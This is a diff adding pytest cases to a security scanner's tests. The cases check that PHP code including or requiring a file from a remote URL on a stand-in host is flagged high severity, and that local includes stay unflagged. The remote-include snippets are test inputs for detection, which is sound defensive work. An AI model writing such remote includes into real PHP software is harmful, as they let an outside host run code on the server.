@@ -129,3 +129,14 @@ def test_python_vendor_token_in_a_request_header_to_its_vendor(source):
             'req = urllib.request.Request("https://api.github.com/user", headers={"Authorization": f"Bearer {tok}"})\n'
             'print(json.load(urllib.request.urlopen(req))["login"])\n')
     assert top("helper.py", text, "IG703") in (None, Severity.LOW)
+
+
+@pytest.mark.parametrize("text", ["<?php\ninclude 'https://cdn.tools.example/boot.txt';\n",
+                                  '<?php\n$u = "https://cdn.tools.example/boot.txt";\nrequire_once $u;\n'])
+def test_php_include_from_a_url(text):
+    assert top("boot.php", text, "IG701") in HIGH
+
+
+def test_php_local_includes_stay_quiet():
+    text = "<?php\nrequire_once __DIR__ . '/vendor/autoload.php';\ninclude 'config.php';\necho file_get_contents('https://api.tools.example/v1/x');\n"
+    assert not {f.rule_id for f in scan("app.php", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}
